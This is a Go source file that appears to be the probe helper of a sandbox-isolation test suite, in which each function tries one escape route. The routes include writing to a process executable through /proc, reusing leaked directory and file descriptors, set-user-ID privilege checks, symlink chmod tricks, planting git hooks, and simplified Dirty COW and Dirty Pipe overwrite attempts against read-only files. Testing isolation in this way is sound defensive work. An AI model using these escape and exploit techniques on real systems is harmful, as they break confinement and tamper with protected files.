package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// exeWrite opens the program of a process to write to it; that it is busy just now is no wall.
func exeWrite(a []string) error {
	return first(a, func(pid string) error {
		err := openWrite([]string{"/proc/" + pid + "/exe"})
		if errors.Is(err, syscall.ETXTBSY) {
			return nil
		}
		return err
	})
}

// exeHost succeeds when the program of the process is the file of the host that has that device and inode.
func exeHost(a []string) error {
	want := a[0]
	return first(a[1:], func(pid string) error {
		var st unix.Stat_t
		if err := unix.Stat("/proc/"+pid+"/exe", &st); err != nil {
			return err
		}
		if identity(&st) != want {
			return errors.New("another file")
		}
		return nil
	})
}

func identity(st *unix.Stat_t) string { return fmt.Sprint(st.Dev, ":", st.Ino) }

// directoryFDs looks for an open directory from which it can go up to the file of that name.
func directoryFDs(a []string) error {
	err := error(syscall.EBADF)
	for fd := range 64 {
		if fd == 1 || fd == 2 {
			continue
		}
		file, e := unix.Openat(fd, "../"+a[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if e == nil {
			unix.Close(file)
			return nil
		}
		if e != syscall.EBADF {
			err = e
		}
	}
	return err
}

// readFDs reads from a descriptor that nobody gave it.
func readFDs(a []string) error {
	return first(a, func(number string) error {
		var fd int
		if _, err := fmt.Sscan(number, &fd); err != nil {
			return err
		}
		_, err := unix.Pread(fd, make([]byte, 16), 0)
		return err
	})
}

// marker opens a file of the directory in which the caller stood.
func marker(a []string) error {
	return first([]string{a[0], "../" + a[0], strings.Repeat("../", 40) + a[1]}, func(name string) error { return readAny([]string{name}) })
}

// fakeNull writes to what the word says.
func fakeNull(a []string) error { return os.WriteFile(a[0], []byte("hostile\n"), 0o644) }

// fakeProc succeeds when what stands at the path is no procfs.
func fakeProc(a []string) error {
	var fs unix.Statfs_t
	if err := unix.Statfs(a[0], &fs); err != nil {
		return err
	}
	if fs.Type == unix.PROC_SUPER_MAGIC {
		return errors.New("it is procfs")
	}
	return nil
}

// setID runs a set-user-ID program and succeeds when that has another user than it has itself.
func setID(a []string) error {
	text, err := exec.Command(a[0], actArg, "whoami").Output()
	if err != nil {
		return err
	}
	if got := strings.TrimSpace(string(text)); got == fmt.Sprint(os.Geteuid()) {
		return fmt.Errorf("still user %s", got)
	}
	return nil
}

// throughLink leaves a link where the host will look, and changes the mode of what it leads to.
func throughLink(a []string) error {
	link := filepath.Join(a[0], "out")
	os.Remove(link)
	if err := os.Symlink(a[1], link); err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Join(a[0], "deep/deep/deep"), 0o700); err != nil {
		return err
	}
	return unix.Chmod(link, 0o777)
}

// layer overwrites a file that it was given to read: by opening it anew, by its memory, and by a pipe that shares the page.
func layer(a []string) error {
	err := os.WriteFile(a[0], []byte("hostile\n"), 0o644)
	fd, e := unix.Open(a[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if e != nil {
		return e
	}
	for _, flags := range []int{unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
		if again, e := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags, 0); e == nil {
			unix.Write(again, []byte("hostile\n"))
		}
	}
	pokeMapping(fd)
	pokePipe(fd)
	unix.Fchmod(fd, 0o777)
	return err
}

// pokeMapping writes to a private, read-only view of the file by /proc/self/mem (CVE-2016-5195).
func pokeMapping(fd int) {
	page, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return
	}
	if mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0); err == nil {
		mem.WriteAt([]byte("hostile\n"), addressOf(page))
		mem.Close()
	}
}

// pokePipe moves a page of the file into a pipe and writes behind it (CVE-2022-0847).
func pokePipe(fd int) {
	var p [2]int
	if unix.Pipe2(p[:], unix.O_CLOEXEC) != nil {
		return
	}
	full := make([]byte, 65536)
	unix.Write(p[1], full)
	unix.Read(p[0], full)
	from := int64(0)
	if _, err := unix.Splice(fd, &from, p[1], nil, 1, 0); err == nil {
		unix.Write(p[1], []byte("hostile\n"))
	}
}

// regain changes a file below a writable directory that it may only read, by every detour that names offer.
func regain(a []string) error {
	project, guarded := a[0], filepath.Join(a[0], "sub/rc")
	err := os.WriteFile(guarded, []byte("hostile\n"), 0o644)
	other := filepath.Join(project, "other")
	os.WriteFile(other, []byte("hostile\n"), 0o644)
	os.Rename(other, guarded)
	os.Remove(guarded)
	unix.Renameat2(unix.AT_FDCWD, filepath.Join(project, "sub"), unix.AT_FDCWD, filepath.Join(project, "gone"), 0)
	os.Mkdir(filepath.Join(project, "sub"), 0o755)
	os.WriteFile(guarded, []byte("hostile\n"), 0o644)
	return err
}

// hook plants what git runs later, outside.
func hook(a []string) error {
	dir := filepath.Join(a[0], ".git/hooks")
	err := os.WriteFile(filepath.Join(dir, "post-checkout"), []byte("#!/bin/sh\n"), 0o755)
	os.Rename(dir, filepath.Join(a[0], ".git/old"))
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "post-checkout"), []byte("#!/bin/sh\n"), 0o755)
	return err
}
